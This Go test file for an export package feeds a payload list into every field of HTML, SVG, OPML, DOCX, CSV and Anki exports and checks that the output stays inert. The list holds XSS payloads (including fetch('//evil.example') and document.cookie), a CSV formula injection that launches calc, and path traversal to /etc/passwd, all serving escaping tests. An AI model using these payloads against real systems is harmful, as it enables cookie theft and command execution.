package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/daodu/daodu"
	"github.com/daodu/daodu/internal/race"
)

// hostileWords are markup, code and steering letters as they may stand in titles, texts,
// names of files, addresses and answers of models.
var hostileWords = hostile()

func hostile() []string {
	code := []string{"alert(1)", "fetch('//evil.example')", "document.cookie"}
	forms := []string{
		"<script>%s</script>", "</script><script>%s</script>", "<img src=x onerror=%s>", "<svg onload=%s>", "<svg/onload=%s>", "\"><script>%s</script>", "'><img src=x onerror=%s>",
		"\" onmouseover=\"%s", "' onfocus='%s' autofocus '", "<iframe srcdoc=\"<script>%s</script>\">", "<a href=\"javascript:%s\">x</a>", "javascript:%s", "<body onload=%s>",
		"<details open ontoggle=%s>", "</title><script>%s</script>", "</style><script>%s</script>", "</details><script>%s</script>", "]]><script>%s</script>", "<!--><script>%s</script>-->",
		"<math><mi xlink:href=\"javascript:%s\">", "<input autofocus onfocus=%s>", "<video><source onerror=%s>", "<object data=\"javascript:%s\">", "<base href=\"javascript:%s//\">",
		"&lt;script&gt;%s&lt;/script&gt;", "&#60;script&#62;%s&#60;/script&#62;", "\\u003cscript\\u003e%s\\u003c/script\\u003e", "{{%s}}", "${%s}", "<%%= %s %%>",
	}
	var out []string
	for _, form := range forms {
		for _, c := range code {
			out = append(out, fmt.Sprintf(form, c))
		}
	}
	return append(out, "<scr\x00ipt>", "＜script＞", "\u202e<script>", "=cmd|' /C calc'!A0", "+1+1", "-1-1", "@SUM(A1)", "＝1", "\t=1", "[sound:x.mp3]", "{{FrontSide}}", "a\x1fb", "a\tb", "a\nb", "a\r\nb",
		"../../etc/passwd", "..\\..\\x", "CON", "%00", "&nbsp;", "&", "<", ">", "\"", "'", "𠮷<b>😀</b>", "\ufffe", "\x1b[31m", "\xff\xfe")
}

// everywhere is an article with artifacts that have the same words wherever words can be.
func everywhere(words string) (*daodu.Article, []*daodu.Artifact) {
	quote := []daodu.Quote{{Span: daodu.Span{Start: 6, End: 15}, Text: words}}
	p := daodu.Point{Text: words, Quotes: quote, Verdict: daodu.Unsupported}
	a := small()
	a.Text = "一、建平台。要安排1800万元。" + strings.NewReplacer("\r", "", "\n", "").Replace(words) // a line of its own is a paragraph of its own
	a.Title, a.Subtitle, a.Occasion, a.Publisher, a.Author, a.Lang, a.Date, a.TextSHA256 = words, words, words, words, words, words, words, words
	a.Source.URI, a.Speaker = "https://x.example/"+words, &daodu.Speaker{Name: words, Role: words}
	a.Sections[0].Children[0].Label, a.Sentences[1].ID = words, words
	a.Damage = []daodu.Damage{{Kind: daodu.OCRSuspect, Severity: daodu.SeverityWarn, Span: daodu.Span{Start: 7, End: 9}, Note: words}}
	arts := []*daodu.Artifact{
		{Content: &daodu.Summary{Headline: p, Points: []daodu.Point{p}}, Findings: []daodu.Finding{{Rule: "number", Detail: words}}},
		{Content: &daodu.Outline{Nodes: []daodu.Node{{Label: words, Section: words, Point: &p, Children: []daodu.Node{{Label: words, Point: &p}}}}},
			Findings: []daodu.Finding{{Path: "nodes[0]", Rule: "damage", Detail: words}}},
		{Content: &daodu.Guide{
			Overview: []daodu.Point{p}, Terms: []daodu.Term{{Term: words, Explanation: p}, {Term: words, Members: []string{words, words}}},
			People: []daodu.Person{{Name: words, Role: words, Quotes: quote}}, Numbers: []daodu.Number{{Value: words, What: words, Quotes: quote}},
			Dates: []daodu.DateFact{{Date: words, What: words, Quotes: quote}}, Reading: []daodu.Reading{{Title: words, Why: words}},
			Questions:  []daodu.Question{{Kind: daodu.Choice, Question: words, Options: []string{words, "乙"}, Answer: words, Why: words, Quotes: quote}},
			Flashcards: []daodu.Flashcard{{GUID: "g1", Front: words, Back: words, Quotes: quote}, {GUID: "g2", Front: words, Back: words, Quotes: quote}},
		}, Findings: []daodu.Finding{{Path: "flashcards[0]", Rule: "damage", Detail: words}}},
	}
	for _, art := range arts {
		art.Origin = daodu.Origin{Engine: words, Model: words, CreatedAt: time.Unix(1763683200, 0)}
	}
	return a, arts
}

func written(t testing.TB, format string, a *daodu.Article, arts []*daodu.Artifact) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := Write(&out, format, a, arts, "1.0"); err != nil {
		t.Fatalf("%s: %v", format, err)
	}
	return out.Bytes()
}

var attributeValue = regexp.MustCompile(`"[^"]*"`)

// tagsOf returns the tags of a page or drawing without the values of attributes. Two pages
// with the same tags differ in words only.
func tagsOf(page []byte) []string {
	var out []string
	for _, tag := range regexp.MustCompile(`<[^>]*>`).FindAllString(string(page), -1) {
		out = append(out, attributeValue.ReplaceAllString(tag, `""`))
	}
	return out
}

// TestHostileWordsStayWords writes more than a hundred payloads into every place of every
// format.
func TestHostileWordsStayWords(t *testing.T) {
	t.Parallel()
	race.Skip(t)
	if len(hostileWords) < 100 {
		t.Fatalf("%d payloads", len(hostileWords))
	}
	a, arts := everywhere("甲")
	harmless := tagsOf(written(t, "html", a, arts))
	for _, words := range hostileWords {
		a, arts := everywhere(words)
		page := written(t, "html", a, arts)
		if diff := cmp.Diff(harmless, tagsOf(page)); diff != "" {
			t.Errorf("%q makes other tags:\n%s", words, diff)
		}
		if bytes.ContainsAny(page, "\x00\x1b\u202e") {
			t.Errorf("%q: steering letters", words)
		}
		for _, format := range []string{"svg", "opml"} {
			wellFormed(t, format+" of "+words, written(t, format, a, arts))
		}
		eachPart(t, written(t, "docx", a, arts), func(name string, data []byte) { wellFormed(t, name+" of "+words, data) })
		checkTable(t, words, written(t, "csv", a, arts))
		checkAnkiText(t, words, written(t, "anki-text", a, arts))
	}
}

// wellFormed fails the test unless data is XML with one root and without scripts.
func wellFormed(t testing.TB, what string, data []byte) (elements []xml.StartElement) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(data))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return elements
		}
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		e, ok := token.(xml.StartElement)
		if !ok {
			continue
		}
		elements = append(elements, e.Copy())
		for _, attr := range e.Attr {
			if e.Name.Local == "script" || strings.HasPrefix(attr.Name.Local, "on") {
				t.Errorf("%s: <%s %s>", what, e.Name.Local, attr.Name.Local)
			}
		}
	}
}

// eachPart calls f with each file of an archive.
func eachPart(t testing.TB, data []byte, f func(name string, data []byte)) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range z.File {
		r, err := file.Open()
		if err != nil {
			t.Fatal(err)
		}
		part, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		f(file.Name, part)
	}
}

// checkTable fails the test unless data is a table without formulas.
func checkTable(t testing.TB, words string, data []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("%q: %d rows, %v", words, len(rows), err)
	}
	for _, cell := range rows[1] {
		if strings.IndexAny(cell, "=+-@＝＋－＠\t\r") == 0 {
			t.Errorf("%q: the cell %q is a formula", words, cell)
		}
	}
}

// checkAnkiText fails the test unless data has five lines of head and two cards of four
// fields.
func checkAnkiText(t testing.TB, words string, data []byte) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
	if len(lines) != 7 {
		t.Fatalf("%q: %d lines", words, len(lines))
	}
	for _, line := range lines[5:] {
		fields := strings.Split(line, "\t")
		if len(fields) != 4 || !strings.HasPrefix(fields[0], "g") || strings.Contains(fields[1], "<") || strings.Contains(line, "[sound") {
			t.Errorf("%q: %q", words, line)
		}
	}
}
